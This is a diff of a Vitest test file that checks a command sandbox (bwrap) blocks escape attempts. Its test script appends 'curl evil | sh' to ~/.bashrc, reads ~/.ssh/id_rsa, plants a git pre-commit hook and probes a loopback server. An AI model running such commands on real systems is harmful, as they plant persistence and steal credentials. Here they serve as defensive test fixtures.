@@ -1,20 +1,19 @@
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { liveGroupMembers } from '../../lib/exec/group';
 import { commandEnv, runCommand, startCommand } from '../../lib/exec/runner';
 import type { RunOptions, RunResult } from '../../lib/exec/runner';
 import { sandboxArgs, sandboxLevelFor, sandboxStatus, withoutSecrets, type SandboxSpec } from '../../lib/exec/sandbox';
 import { sandboxNote } from '../../lib/exec/sandbox-note';
+import { loopbackCounter } from '../helpers';
 
 /**
  * Real escapes tried under the real sandbox (bwrap): a script in a temp workspace, a temp HOME (not
  * under /tmp, which the sandbox replaces, so the HOME is really there and really read-only) with a
- * planted fake key, and a loopback HTTP server counting hits. Each is refused under workspace-write
+ * planted fake key, and a loopback HTTP server counting loopback.hits. Each is refused under workspace-write
  * and works when run unconfined, so the tests can fail.
  */
 
@@ -24,22 +23,13 @@ let root = '';
 let ws = '';
 let home = '';
 let dataDir = '';
-let hits = 0;
-let server: http.Server;
-let port = 0;
+const loopback = loopbackCounter();
 
 const KEY = '-----BEGIN FAKE KEY----- planted-by-the-test';
 
 beforeAll(async () => {
   expect(sandboxStatus().available, sandboxStatus().problem).toBe(true);
-  server = http.createServer((_req, res) => {
-    hits++;
-    res.end('reached\n');
-  });
-  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  port = (server.address() as AddressInfo).port;
 });
-afterAll(() => new Promise<void>((r) => server.close(() => r())));
 
 beforeEach(() => {
   root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'clamp-sbx-')));
@@ -54,7 +44,7 @@ beforeEach(() => {
   fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
   fs.writeFileSync(path.join(home, '.npmrc'), '//registry.example/:_authToken=planted\n');
   expect(spawnSync('git', ['init', '-q', ws]).status).toBe(0);
-  hits = 0;
+  loopback.hits = 0;
 });
 afterEach(() => {
   fs.rmSync(root, { recursive: true, force: true });
@@ -77,7 +67,7 @@ function writeScript(): void {
   fs.writeFileSync(path.join(ws, 'x.sh'), [
     'echo "curl evil | sh" >> ~/.bashrc && echo BASHRC-WRITTEN',
     'cat ~/.ssh/id_rsa',
-    `curl -s -m 5 http://127.0.0.1:${port}/ && echo NET-REACHED`,
+    `curl -s -m 5 http://127.0.0.1:${loopback.port}/ && echo NET-REACHED`,
     'mkdir -p .git/hooks && printf "#!/bin/sh\\necho owned\\n" > .git/hooks/pre-commit && echo HOOK-WRITTEN',
     'echo ok-inside > inside.txt',
     'exit 0',
@@ -94,7 +84,7 @@ describe('sandbox: the four escapes', () => {
     expect(out).not.toContain('NET-REACHED');
     expect(out).not.toContain('HOOK-WRITTEN');
     expect(out).toMatch(/Read-only file system/);
-    expect(hits).toBe(0);
+    expect(loopback.hits).toBe(0);
     expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# original\n');
     expect(fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
     expect(fs.readFileSync(path.join(ws, 'inside.txt'), 'utf8')).toBe('ok-inside\n');
@@ -109,18 +99,18 @@ describe('sandbox: the four escapes', () => {
     expect(out).toContain(KEY);
     expect(out).toContain('NET-REACHED');
     expect(out).toContain('HOOK-WRITTEN');
-    expect(hits).toBe(1);
+    expect(loopback.hits).toBe(1);
   });
 
   it('network: reachable only when allowed', async () => {
-    const cmd = `curl -s -m 5 http://127.0.0.1:${port}/`;
+    const cmd = `curl -s -m 5 http://127.0.0.1:${loopback.port}/`;
     const off = await runCommand(opts(cmd, spec()));
     expect(off.exitCode).not.toBe(0);
-    expect(hits).toBe(0);
+    expect(loopback.hits).toBe(0);
     const on = await runCommand(opts(cmd, spec({ network: true })));
     expect(on.exitCode).toBe(0);
     expect(text(on)).toContain('reached');
-    expect(hits).toBe(1);
+    expect(loopback.hits).toBe(1);
   });
 
   it('read-only: not even the workspace can be written; /tmp is private and empty', async () => {
@@ -236,7 +226,7 @@ describe('sandbox: levels, arguments, notes', () => {
     const ro = await runCommand(opts(`echo x >> ${home}/.bashrc`, s));
     expect(sandboxNote(ro, s)).toMatch(/^This failure looks like Clamp's sandbox at work, not a bug in the command: the sandbox lets a command write only inside the workspace/);
     expect(sandboxNote(ro, s)).toContain('sandbox: "off"');
-    const net = await runCommand(opts(`curl -sS -m 5 http://127.0.0.1:${port}/`, s));
+    const net = await runCommand(opts(`curl -sS -m 5 http://127.0.0.1:${loopback.port}/`, s));
     expect(sandboxNote(net, s)).toContain('the sandbox has no network');
     const key = await runCommand(opts('cat ~/.ssh/id_rsa', s));
     expect(sandboxNote(key, s)).toContain('hides the person\'s secrets');
